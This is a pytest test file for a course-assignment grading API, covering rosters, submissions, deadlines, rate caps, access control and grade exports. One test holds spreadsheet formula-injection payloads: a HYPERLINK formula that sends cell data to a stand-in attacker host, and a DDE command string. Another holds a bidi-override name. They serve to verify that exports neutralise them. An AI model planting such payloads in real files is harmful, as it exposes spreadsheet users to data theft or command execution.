"""Assignments (server/course/, server/api/routes/assignments.py, docs/assignments.md): publish the example
assignment of scenes/grading/, upload a roster, submit as students (scenes and images), read what each may
see, and export the grades. Time is the app's injectable clock (`app.state.clock`): the tests move it past
deadlines, never sleep to one. Students' grades are the example class's (tests/test_grading.py)."""

from __future__ import annotations

import base64
import csv
import io
import json
from datetime import timedelta

import pytest

from tests.support.api import INSTRUCTOR, Clock, bearer, course_client, student_token, wait_for
from tests.support.assignments import CLASS, DEADLINE, EXAMPLE, T0, finished, publish, roster, scene_text, spec, submit

TEACHER = bearer(INSTRUCTOR)


def image(name: str) -> dict:
    path = next(CLASS.glob(f"{name}.*"))
    return {"image": base64.b64encode(path.read_bytes()).decode(), "format": path.suffix[1:]}


@pytest.fixture(scope="module")
def app(tmp_path_factory):
    data = tmp_path_factory.mktemp("assignments-data")
    with course_client(data, T0, max_submissions_per_hour=6) as c:
        yield c


@pytest.fixture(scope="module")
def spare(app) -> str:
    """An assignment for the tests that need one but grade nothing (each published one renders its reference)."""
    return publish(app)["id"]


@pytest.fixture
def clock(app):
    app.app.state.clock = Clock(T0)
    yield app.app.state.clock
    app.app.state.clock.now = T0


def grades(client, aid: str) -> list[dict]:
    r = client.get(f"/api/assignments/{aid}/grades.csv", headers=TEACHER)
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv"), r.text
    return list(csv.DictReader(io.StringIO(r.text)))


# ------------------------------------------------------------------------------------- the flow


def test_assignments_publish_roster_submit_and_grade_the_example(app, clock):
    """Three students submit alice's scene, carol's broken one and grace's PNG: graded once each as the
    example class is (13, invalid, 7), the invalid one costing no attempt; a test whose feedback is shown
    after the deadline is hidden until the clock passes it; grades.csv has one row per roster student."""
    a = publish(app, max_submissions=3, counts="best", feedback={"tests": {"pixels": "after_deadline"}, "score": "now"})
    aid = a["id"]
    students = roster(
        app,
        aid,
        [
            ("s1", "Alice A", "a@x.edu"),
            ("s2", "Carol C", "c@x.edu"),
            ("s3", "Grace G", "g@x.edu"),
            ("s4", "Nobody N", "n@x.edu"),
        ],
    )
    tok = {k: v["token"] for k, v in students.items()}
    assert all(v["link"].endswith(f"/assignments/{aid}#token={v['token']}") for v in students.values())

    b = app.get(f"/api/assignments/{aid}", headers=bearer(tok["s1"])).json()
    assert b["name"] == spec()["name"] and b["deadline"] == DEADLINE.isoformat().replace("+00:00", "Z")
    assert [(r["name"], r["points"]) for r in b["requirements"]][:2] == [("a glass object", 2), ("an area light", 1)]
    assert b["submissions_left"] == 3
    assert b["time_left"] == 2 * 86400
    assert "spec" not in b

    alice = submit(app, aid, tok["s1"], {"scene": json.loads(scene_text("alice"))})
    assert alice["status"] in ("queued", "grading")
    assert alice["score"] is None
    carol = submit(app, aid, tok["s2"], {"scene": scene_text("carol")})
    grace = submit(app, aid, tok["s3"], image("grace"))

    got = {k: finished(app, aid, s["id"], tok[k]) for k, s in (("s1", alice), ("s2", carol), ("s3", grace))}
    assert {k: (g["status"], g["score"], g["max_score"]) for k, g in got.items()} == {
        "s1": ("graded", 13.0, 13.0),
        "s2": ("invalid", 0.0, 13.0),
        "s3": ("graded", 7.0, 7.0),
    }
    assert [g["counts_as_attempt"] for g in got.values()] == [True, False, True]
    pixels = [t for t in got["s1"]["feedback"]["tests"] if t["test"] == "pixels"][0]
    assert "score" not in pixels
    assert pixels["hidden"] == "shown after the deadline"
    assert "metrics" not in got["s1"]["feedback"]  # they would tell the hidden test's result
    assert got["s2"]["feedback"]["errors"][0]["message"].startswith("invalid JSON")
    left = {k: app.get(f"/api/assignments/{aid}", headers=bearer(t)).json()["submissions_left"] for k, t in tok.items()}
    assert left == {"s1": 2, "s2": 3, "s3": 2, "s4": 3}

    everyone = app.get(f"/api/assignments/{aid}/submissions", headers=TEACHER).json()["submissions"]
    assert sorted(s["student"] for s in everyone) == ["s1", "s2", "s3"]
    mine = app.get(f"/api/assignments/{aid}/submissions", headers=bearer(tok["s1"])).json()["submissions"]
    assert [s["id"] for s in mine] == [alice["id"]]
    assert mine[0]["counts"] is True
    assert sorted(got["s1"]["files"]) == ["render.png"]  # the error map would show the hidden test
    r = app.get(got["s1"]["files"]["render.png"], headers=bearer(tok["s1"]))
    assert r.status_code == 200
    assert r.content[:4] == b"\x89PNG"
    assert app.get(f"{got['s1']['url']}/error_map.png", headers=bearer(tok["s1"])).status_code == 404
    assert app.get(got["s1"]["files"]["render.png"], headers=bearer(tok["s3"])).status_code == 404
    teacher_view = app.get(f"/api/assignments/{aid}/submissions/{alice['id']}", headers=TEACHER).json()
    assert sorted(teacher_view["files"]) == ["error_map.png", "reference.png", "rejected.png", "render.png"]
    assert [t for t in teacher_view["feedback"]["tests"] if t["test"] == "pixels"][0]["score"] == 2

    assert grades(app, aid) == [
        {"id": "s1", "name": "Alice A", "score": "13", "max_score": "13", "late": "false", "submissions": "1"},
        {"id": "s2", "name": "Carol C", "score": "", "max_score": "", "late": "", "submissions": "1"},
        {"id": "s3", "name": "Grace G", "score": "7", "max_score": "7", "late": "false", "submissions": "1"},
        {"id": "s4", "name": "Nobody N", "score": "", "max_score": "", "late": "", "submissions": "0"},
    ]
    clock.now = DEADLINE + timedelta(seconds=1)  # the deadline passed (no late cut-off): the pixels test shown
    after = app.get(f"/api/assignments/{aid}/submissions/{alice['id']}", headers=bearer(tok["s1"])).json()
    assert [t for t in after["feedback"]["tests"] if t["test"] == "pixels"][0]["score"] == 2
    assert "metrics" in after["feedback"]
    assert sorted(after["files"]) == ["error_map.png", "rejected.png", "render.png"]


# ------------------------------------------------------------------------- deadlines and caps


def test_assignments_late_window_penalty_extension_and_cut_off(app, clock):
    """Between the deadline and the late cut-off a submission is late and loses the penalty; past the cut-off
    it is refused, saying when the window closed; an extension moves one student's deadline and cut-off."""
    late_until = DEADLINE + timedelta(hours=24)
    aid = publish(app, late_until=late_until.isoformat(), late_penalty=0.25, counts="last")["id"]
    tok = {
        k: v["token"]
        for k, v in roster(app, aid, [("on", "On Time", ""), ("late", "Late L", ""), ("ext", "Extended E", "")]).items()
    }
    clock.now = DEADLINE - timedelta(minutes=1)
    on = submit(app, aid, tok["on"], image("grace"))
    clock.now = DEADLINE + timedelta(hours=1)
    late = submit(app, aid, tok["late"], image("grace"))
    assert (on["late"], late["late"]) == (False, True)

    clock.now = late_until + timedelta(seconds=1)
    r = app.post(f"/api/assignments/{aid}/submissions", json=image("grace"), headers=bearer(tok["ext"]))
    assert r.status_code == 403
    assert r.json()["errors"][0]["path"] == "deadline"
    assert "late submissions were taken until 2026-12-04T12:00:00Z" in r.json()["errors"][0]["message"]

    r = app.post(f"/api/assignments/{aid}/extensions", json={"student": "ext", "deadline": "2026-12-05T12:00:00+01:00"})
    assert r.status_code == 200, r.text
    assert r.json() == {"id": "ext", "deadline": "2026-12-05T11:00:00Z", "late_until": "2026-12-06T11:00:00Z"}
    assert app.get(f"/api/assignments/{aid}", headers=bearer(tok["ext"])).json()["deadline"] == "2026-12-05T11:00:00Z"
    ext = submit(app, aid, tok["ext"], image("grace"))
    assert ext["late"] is False
    for s in (on, late, ext):
        finished(app, aid, s["id"])
    rows = {r["id"]: (r["score"], r["late"]) for r in grades(app, aid)}
    assert rows == {"on": ("7", "false"), "late": ("5.25", "true"), "ext": ("7", "false")}
    seen = app.get(f"/api/assignments/{aid}/submissions/{late['id']}", headers=bearer(tok["late"])).json()
    assert (seen["score"], seen["raw_score"], seen["penalty"]) == (5.25, 7.0, 0.25)

    # an extension granted afterwards takes the late mark and its penalty away
    r = app.post(f"/api/assignments/{aid}/extensions", json={"student": "late", "deadline": late_until.isoformat()})
    assert r.status_code == 200, r.text
    assert {r["id"]: (r["score"], r["late"]) for r in grades(app, aid)}["late"] == ("7", "false")

    r = app.post(f"/api/assignments/{aid}/extensions", json={"student": "nobody", "deadline": None})
    assert r.status_code == 404
    assert r.json()["errors"][0]["path"] == "student"


def test_assignments_attempts_and_the_hourly_cap(app, clock):
    """max_submissions counts attempts: an invalid submission (once graded as such) gives its attempt back;
    past the limit a 403 names it. The hourly cap (TRACER_MAX_SUBMISSIONS_PER_HOUR, 6 here) counts every
    submission of the last hour by the API's clock: a 429 with Retry-After, gone an hour later."""
    aid = publish(app, max_submissions=1)["id"]
    tok = roster(app, aid, [("a", "A", "")])["a"]["token"]
    bad = submit(app, aid, tok, {"scene": "{not json"})
    assert finished(app, aid, bad["id"])["status"] == "invalid"
    good = submit(app, aid, tok, image("grace"))
    r = app.post(f"/api/assignments/{aid}/submissions", json=image("grace"), headers=bearer(tok))
    assert r.status_code == 403 and r.json()["errors"][0]["path"] == "max_submissions", r.text
    assert finished(app, aid, good["id"])["status"] == "graded"
    assert app.get(f"/api/assignments/{aid}", headers=bearer(tok)).json()["submissions_left"] == 0

    aid = publish(app)["id"]  # no limit of attempts
    b = roster(app, aid, [("b", "B", "")])["b"]["token"]
    for _ in range(6):
        submit(app, aid, b, {"scene": "{not json"})
    r = app.post(f"/api/assignments/{aid}/submissions", json={"scene": "{"}, headers=bearer(b))
    assert r.status_code == 429
    assert "TRACER_MAX_SUBMISSIONS_PER_HOUR" in r.json()["errors"][0]["message"]
    assert r.headers["retry-after"]
    clock.now = T0 + timedelta(hours=1, seconds=1)
    submit(app, aid, b, {"scene": "{not json"})


# ------------------------------------------------------------------------------------- access


def test_assignments_students_see_only_their_own_work(app, clock):
    """Another student's submission, another assignment, the instructor's routes, an unknown token: each the
    404 of an unknown id; no token at all on an instructor route: 401."""
    aid = publish(app)["id"]
    other = publish(app)["id"]
    tok = {k: v["token"] for k, v in roster(app, aid, [("a", "A", ""), ("b", "B", "")]).items()}
    sub = submit(app, aid, tok["a"], {"scene": "{not json"})
    for path in (
        f"/api/assignments/{aid}/submissions/{sub['id']}",
        f"/api/assignments/{other}",
        f"/api/assignments/{aid}/grades.csv",
        f"/api/assignments/{aid}/roster",
    ):
        r = app.get(path, headers=bearer(tok["b"]))
        assert r.status_code == 404, (path, r.text)
    assert app.get(f"/api/assignments/{aid}/submissions", headers=bearer(tok["b"])).json() == {"submissions": []}
    stranger = bearer(student_token())
    assert app.get(f"/api/assignments/{aid}", headers=stranger).status_code == 404
    assert app.post(f"/api/assignments/{aid}/submissions", json={"scene": "{"}, headers=stranger).status_code == 404
    r = app.post(
        f"/api/assignments/{aid}/roster",
        content="id,name,email\nx,X,\n",
        headers={**stranger, "Content-Type": "text/csv"},
    )
    assert r.status_code == 401
    assert (
        app.post(
            "/api/assignments", json={"spec": spec(), "deadline": DEADLINE.isoformat()}, headers=bearer(tok["a"])
        ).status_code
        == 401
    )
    r = app.post(f"/api/assignments/{aid}/submissions", json={"scene": "{"}, headers=TEACHER)
    assert r.status_code == 403  # submissions are a student's


def test_assignments_a_students_token_owns_their_workspace_jobs_and_a_new_link_moves_them(app, clock):
    """The roster's token is a job owner's token (its SHA-256 is the owner), so "my jobs" follows the link;
    replacing a lost link gives a new token, the old one stops working, and the jobs go with the student."""
    from tests.support.api import tiny_scene

    aid = publish(app)["id"]
    old = roster(app, aid, [("a", "A", "")])["a"]["token"]
    r = app.post("/api/jobs", json={"scene": tiny_scene()}, headers=bearer(old))
    assert r.status_code == 202, r.text
    job_id = r.json()["id"]
    assert [j["id"] for j in app.get("/api/jobs", headers=bearer(old)).json()["jobs"]] == [job_id]

    r = app.post(f"/api/assignments/{aid}/students/a/link")
    assert r.status_code == 200, r.text
    new = r.json()["token"]
    assert new != old
    assert r.json()["link"].endswith(f"#token={new}")
    assert app.get(f"/api/assignments/{aid}", headers=bearer(old)).status_code == 404
    assert app.get(f"/api/assignments/{aid}", headers=bearer(new)).json()["student"]["id"] == "a"
    assert app.get(f"/api/jobs/{job_id}", headers=bearer(new)).status_code == 200
    assert app.get(f"/api/jobs/{job_id}", headers=bearer(old)).status_code == 404
    assert app.post(f"/api/assignments/{aid}/students/zz/link").status_code == 404


def test_assignments_an_open_assignment_takes_anyone_by_name(app, clock):
    closed = publish(app)["id"]
    assert app.post(f"/api/assignments/{closed}/join", json={"name": "Eve"}).status_code == 404
    aid = publish(app, open=True)["id"]
    r = app.post(f"/api/assignments/{aid}/join", json={"name": "  Zoë   O'Brien "}, headers={"Authorization": ""})
    assert r.status_code == 200, r.text
    me = r.json()
    assert me["name"] == "Zoë O'Brien"
    assert me["id"].startswith("Zoë_O_Brien-")
    assert me["self_declared"] is True
    b = app.get(f"/api/assignments/{aid}", headers=bearer(me["token"])).json()
    assert b["student"] == {"id": me["id"], "name": "Zoë O'Brien", "self_declared": True}
    assert app.get(f"/api/assignments/{aid}/roster", headers=TEACHER).json()["students"][0]["self_declared"] is True
    r = app.post(f"/api/assignments/{aid}/join", json={"name": "Eve\u202egnp.exe\x07"}, headers={"Authorization": ""})
    assert r.status_code == 200 and r.json()["name"] == "Evegnp.exe", r.text  # no control or bidi override


# ---------------------------------------------------------------------------------- bad input


@pytest.mark.parametrize(
    ("change", "path", "words"),
    [
        ({"deadline": "2026-12-03T12:00:00"}, "deadline", "has no zone"),
        ({"deadline": "next friday"}, "deadline", "expected an ISO 8601 time with a zone"),
        ({"late_until": "2026-11-01T00:00:00Z"}, "", "late_until must not be before the deadline"),
        ({"late_penalty": 2}, "late_penalty", "1"),
        ({"counts": "first"}, "counts", "last"),
        ({"feedback": {"tests": {"pixles": "never"}}}, "feedback.tests.pixles", "the tests: validity, a glass object"),
        ({"feedback": {"default": "later"}}, "feedback.default", "after_deadline"),
        ({"spec": spec(inline=False)}, "spec.reference.scene", "send the scene inline, or beside the spec"),
        (
            {"spec": {**spec(), "requirements": [{"name": "x", "points": 1, "check": "area_ligth"}]}},
            "spec.requirements[0].check",
            "did you mean 'area_light'",
        ),
        ({"starter": {"camera": 3}}, "starter", ""),
    ],
)
def test_assignments_a_bad_assignment_is_a_422_naming_the_field(app, change, path, words):
    body = {"spec": spec(), "deadline": DEADLINE.isoformat(), **change}
    r = app.post("/api/assignments", json=body)
    assert r.status_code == 422, r.text
    errors = r.json()["errors"]
    assert any(e["path"].startswith(path) and words in e["message"] for e in errors), errors


@pytest.mark.parametrize(
    ("text", "path", "words"),
    [
        ("name,id,email\nx,X,\n", "line 1", "expected the header 'id,name,email'"),
        ("a,b,c\n", "line 1", "expected the header"),
        ("id,name,email\n", "line 2", "no students"),
        ("id,name,email\nx y,X,\n", "line 2.id", "no spaces"),
        ("id,name,email\nx,X,\nx,Y,\n", "line 3.id", "on line 2 too"),
        ("id,name,email\nx,,\n", "line 2.name", "a name is required"),
        ("id,name,email\nx,X\n", "line 2", "expected 3 fields"),
        ("id,name,email\nx,X,not-an-address\n", "line 2.email", "not an email address"),
    ],
)
def test_assignments_a_bad_roster_is_a_422_naming_the_line(app, spare, text, path, words):
    aid = spare
    r = app.post(f"/api/assignments/{aid}/roster", content=text, headers={"Content-Type": "text/csv"})
    assert r.status_code == 422, r.text
    assert any(e["path"] == path and words in e["message"] for e in r.json()["errors"]), r.json()


def test_assignments_bad_submissions_and_sizes(app, spare, clock):
    aid = spare
    tok = roster(app, aid, [("bad", "Bad Input", "")])["bad"]["token"]
    url = f"/api/assignments/{aid}/submissions"
    r = app.post(url, json={"image": "not base64!", "format": "png"}, headers=bearer(tok))
    assert r.status_code == 422
    assert r.json()["errors"][0]["path"] == "image"
    r = app.post(url, json={"scene": {}, "image": "AAAA"}, headers=bearer(tok))
    assert r.status_code == 422
    assert "exactly one of 'scene' and 'image'" in r.text
    r = app.post(url, json={"image": "AAAA", "format": "jpg"}, headers=bearer(tok))
    assert r.status_code == 422
    assert r.json()["errors"][0]["path"] == "format"
    assert r.json()["errors"][0]["message"].startswith("expected one of: png, exr; got"), r.json()  # not an empty list
    big = {"image": "A" * 2_100_000, "format": "png"}
    r = app.post(url, json=big, headers=bearer(tok))
    assert r.status_code == 413
    assert "TRACER_MAX_BODY_BYTES" in r.text
    assert app.get(f"/api/assignments/{aid}/submissions/{'0' * 32}", headers=bearer(tok)).status_code == 404
    assert app.get(f"/api/assignments/{'0' * 32}").status_code == 404


# ---------------------------------------------------------------------- the repository's files


def test_assignments_the_repositorys_spec_with_its_reference_file_beside_it(app):
    """scenes/grading/assignment.json names its reference as a file: sent beside it (multipart parts, or the
    JSON body's `reference`), the assignment is published with the scene inline."""
    files = {
        "spec": ("assignment.json", (EXAMPLE / "assignment.json").read_bytes(), "application/json"),
        "reference": ("reference.json", (EXAMPLE / "reference.json").read_bytes(), "application/json"),
    }
    r = app.post(
        "/api/assignments",
        files=files,
        data={"deadline": DEADLINE.isoformat(), "max_submissions": "2", "show_reference": "true"},
    )
    assert r.status_code == 201, r.text
    a = r.json()
    assert a["spec"]["reference"]["scene"] == json.loads((EXAMPLE / "reference.json").read_text())
    assert (a["max_submissions"], a["policy"]["show_reference"]) == (2, True)
    body = {
        "spec": spec(inline=False),
        "reference": json.loads((EXAMPLE / "reference.json").read_text()),
        "deadline": DEADLINE.isoformat(),
    }
    assert app.post("/api/assignments", json=body).status_code == 201
    listed = app.get("/api/assignments").json()["assignments"]
    assert a["id"] in [x["id"] for x in listed] and listed[0]["name"] == spec()["name"]
    assert app.get("/api/assignments", headers=bearer(student_token())).status_code == 401
    assert app.get("/openapi.json").json()["paths"]["/api/assignments"]["post"]["requestBody"]
    png = wait_for(
        lambda: (r := app.get(f"/api/assignments/{a['id']}/reference.png")).status_code == 200 and r,
        120,
        "the reference image",
    )
    assert png.content[:8] == b"\x89PNG\r\n\x1a\n"
    url = f"/api/assignments/{a['id']}"
    grade = wait_for(
        lambda: (g := app.get(url).json()["reference_grade"])["status"] == "graded" and g, 240, "its grade"
    )
    assert (grade["status"], grade["score"], grade["max_score"]) == ("graded", 13.0, 13.0)  # full marks


def test_assignments_an_edit_keeps_every_version_and_regrades(app, clock):
    """PUT adds a version (the earlier ones kept, each with its own grading run); ?regrade=true grades every
    submission again under the new one."""
    a = publish(app)
    aid = a["id"]
    tok = roster(app, aid, [("a", "A", "")])["a"]["token"]
    first = finished(app, aid, submit(app, aid, tok, image("grace"))["id"])
    assert (first["version"], first["score"]) == (1, 7.0)
    changed = spec()
    changed["reference"]["flip"]["points"] = 4
    r = app.put(f"/api/assignments/{aid}?regrade=true", json={"spec": changed, "deadline": DEADLINE.isoformat()})
    assert r.status_code == 200, r.text
    assert [v["version"] for v in r.json()["versions"]] == [1, 2]
    assert len({v["run_id"] for v in r.json()["versions"]}) == 2
    v1 = f"/api/grade/{r.json()['versions'][0]['run_id']}"  # v1's run, kept: its reference and the submission
    old_run = wait_for(lambda: (s := app.get(v1).json())["graded"] == 2 and s, 240, "v1's run to grade both")
    assert old_run["students"] == ["reference", first["id"]]
    assert old_run["status"] == "running"
    again = finished(app, aid, first["id"])
    assert (again["version"], again["score"], again["max_score"]) == (2, 9.0, 9.0)
    assert app.get(f"/api/assignments/{aid}", headers=bearer(tok)).json()["image_tests"][0] == {
        "name": "flip",
        "points": 4,
    }


def test_assignments_a_submissions_grade_streams_as_it_moves(app, spare, clock):
    """GET .../events: the submission now, then each time its grade moves, then `end`; another student's
    submission is a 404 there too."""
    from tests.support.api import parse_sse

    tok = roster(app, spare, [("sse", "Stream S", ""), ("other", "Other O", "")])
    sub = submit(app, spare, tok["sse"]["token"], image("grace"))
    url = f"/api/assignments/{spare}/submissions/{sub['id']}/events"
    assert app.get(url, headers=bearer(tok["other"]["token"])).status_code == 404
    with app.stream("GET", url, headers=bearer(tok["sse"]["token"])) as r:
        assert r.status_code == 200
        assert r.headers["content-type"].startswith("text/event-stream")
        events = list(parse_sse(r.iter_lines()))
    assert events[-1] == ("end", {})
    views = [data for kind, data in events if kind == "submission"]
    assert views[0]["status"] in ("queued", "grading")
    assert views[-1]["status"] == "graded"
    assert (views[-1]["score"], views[-1]["max_score"]) == (7.0, 7.0)
    assert views[-1]["counts"] is True  # its one graded submission is the grade, as GET .../{sid} says too


def test_assignments_a_check_shows_what_the_policy_shows_now_and_keeps_nothing(app, clock):
    """POST .../check: validity and the requirements in seconds, each as the policy shows it now (a hidden
    requirement stays hidden), the image tests named; no submission is made and no attempt used."""
    aid = publish(app, max_submissions=1, feedback={"tests": {"a glass object": "never"}})["id"]
    tok = roster(app, aid, [("chk", "Check C", "")])["chk"]["token"]
    r = app.post(f"/api/assignments/{aid}/check", json={"scene": json.loads(scene_text("alice"))}, headers=bearer(tok))
    assert r.status_code == 200, r.text
    got = r.json()
    assert got["valid"] is True
    assert got["image_tests"] == ["flip", "ssim", "psnr", "pixels"]
    assert [(t["test"], t.get("score")) for t in got["tests"]] == [
        ("validity", 1),
        ("a glass object", None),
        ("an area light", 1),
        ("three bounces", 1),
        ("a small scene", 1),
        ("a render budget", 1),
    ]
    bad = app.post(f"/api/assignments/{aid}/check", json={"scene": scene_text("carol")}, headers=bearer(tok)).json()
    assert bad["valid"] is False
    assert bad["errors"][0]["message"].startswith("invalid JSON")
    img = app.post(f"/api/assignments/{aid}/check", json=image("grace"), headers=bearer(tok)).json()
    assert img["valid"] is True
    assert [t["test"] for t in img["tests"]] == ["validity"]
    b = app.get(f"/api/assignments/{aid}", headers=bearer(tok)).json()
    assert b["submissions_left"] == 1 and app.get(
        f"/api/assignments/{aid}/submissions", headers=bearer(tok)
    ).json() == {"submissions": []}
    teacher = app.post(f"/api/assignments/{aid}/check", json={"scene": scene_text("alice")}).json()
    assert teacher["tests"][1]["score"] == 2  # the instructor sees every test


# ------------------------------------------------------------------------------------- exports


def test_assignments_exports_an_lms_gradebook_and_gradescope_results(app, clock):
    """gradebook.csv has Canvas's gradebook columns and a Points Possible row, the roster's id as the SIS User
    ID; a graded submission's results.json is Gradescope's, each test's visibility from the feedback policy
    and the score after the late penalty. Both are the instructor's: a student's token gets a 404."""
    late_until = DEADLINE + timedelta(hours=24)
    feedback = {"tests": {"pixels": "never", "flip": "after_deadline"}, "score": "after_deadline"}
    aid = publish(app, late_until=late_until.isoformat(), late_penalty=0.5, feedback=feedback)["id"]
    tok = {k: v["token"] for k, v in roster(app, aid, [("g1", "Grace G", "g@x.edu"), ("n1", "None N", "")]).items()}
    clock.now = DEADLINE + timedelta(hours=1)  # late: half the points
    sub = submit(app, aid, tok["g1"], image("grace"))
    assert finished(app, aid, sub["id"])["score"] == 3.5

    r = app.get(f"/api/assignments/{aid}/gradebook.csv", headers=TEACHER)
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv"), r.text
    rows = list(csv.reader(io.StringIO(r.text)))
    assert rows[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", f"{spec()['name']} ({aid[:8]})"]
    assert rows[1] == ["Points Possible", "", "", "", "", "13"]
    assert rows[2:] == [["Grace G", "", "g1", "g@x.edu", "", "6.5"], ["None N", "", "n1", "", "", ""]]  # 3.5 of 7

    results = app.get(f"/api/assignments/{aid}/submissions/{sub['id']}/results.json", headers=TEACHER).json()
    assert results["score"] == 3.5
    assert "late: 0.5 of the points taken off" in results["output"]
    assert results["visibility"] == "after_due_date"
    shown = {t["name"]: t["visibility"] for t in results["tests"]}
    assert shown == {
        "readable image": "visible",
        "FLIP against the reference": "after_due_date",
        "SSIM against the reference": "visible",
        "PSNR against the reference": "visible",
        "pixels match the reference": "hidden",
    }
    for path in ("gradebook.csv", f"submissions/{sub['id']}/results.json"):
        path = f"/api/assignments/{aid}/{path}"
        assert app.get(path, headers=bearer(tok["g1"])).status_code == 404, path


def test_assignments_exports_never_carry_a_formula_a_student_typed(app, clock):
    """A joined name `=HYPERLINK(...)` (and a roster name `+...`, `@...`) lands in grades.csv, gradebook.csv and
    the roster's links.csv behind a single quote, so a spreadsheet shows it as text (tracer/tools/spreadsheet.py); the
    numbers stay numbers."""
    evil = '=HYPERLINK("http://evil.example/?"&A1,"grade")'
    aid = publish(app, open=True)["id"]
    r = app.post(f"/api/assignments/{aid}/join", json={"name": evil}, headers={"Authorization": ""})
    assert r.status_code == 200, r.text
    text = "id,name,email\nr1,+cmd|' /C calc'!A0,\nr2,@SUM(A1),\n"
    r = app.post(
        f"/api/assignments/{aid}/roster", content=text, headers={"Content-Type": "text/csv", "Accept": "text/csv"}
    )
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv"), r.text
    links = list(csv.DictReader(io.StringIO(r.text)))
    assert [row["name"] for row in links] == ["'+cmd|' /C calc'!A0", "'@SUM(A1)"]
    names = {row["name"] for row in grades(app, aid)}
    assert names == {"'" + evil, "'+cmd|' /C calc'!A0", "'@SUM(A1)"}
    book = list(csv.reader(io.StringIO(app.get(f"/api/assignments/{aid}/gradebook.csv", headers=TEACHER).text)))
    assert {row[0] for row in book[2:]} == names
    assert book[1][-1] == "13"  # Points Possible: still a number


def test_assignments_a_students_checks_are_so_many_a_minute(app, spare, clock):
    """POST .../check of one token: TRACER_MAX_CHECKS_PER_MINUTE (3 here), then a 429 naming it with Retry-After;
    another student's token and the instructor are not held; a minute later (the caps' injectable clock) the
    token checks again."""
    settings, caps = app.app.state.settings, app.app.state.caps
    saved_cap, saved_clock = settings.max_checks_per_minute, caps.clock
    settings.max_checks_per_minute, caps.clock = 3, Clock(5000.0)
    try:
        tok = roster(app, spare, [("c1", "Cee One", ""), ("c2", "Cee Two", "")])
        url, body = f"/api/assignments/{spare}/check", {"scene": scene_text("carol")}  # broken JSON: quick
        for _ in range(3):
            assert app.post(url, json=body, headers=bearer(tok["c1"]["token"])).status_code == 200
        r = app.post(url, json=body, headers=bearer(tok["c1"]["token"]))
        assert r.status_code == 429, r.text
        assert "TRACER_MAX_CHECKS_PER_MINUTE" in r.json()["errors"][0]["message"]
        assert r.headers["retry-after"] == "60"
        assert app.post(url, json=body, headers=bearer(tok["c2"]["token"])).status_code == 200
        assert app.post(url, json=body).status_code == 200  # the instructor
        caps.clock.now += 60
        assert app.post(url, json=body, headers=bearer(tok["c1"]["token"])).status_code == 200
    finally:
        settings.max_checks_per_minute, caps.clock = saved_cap, saved_clock
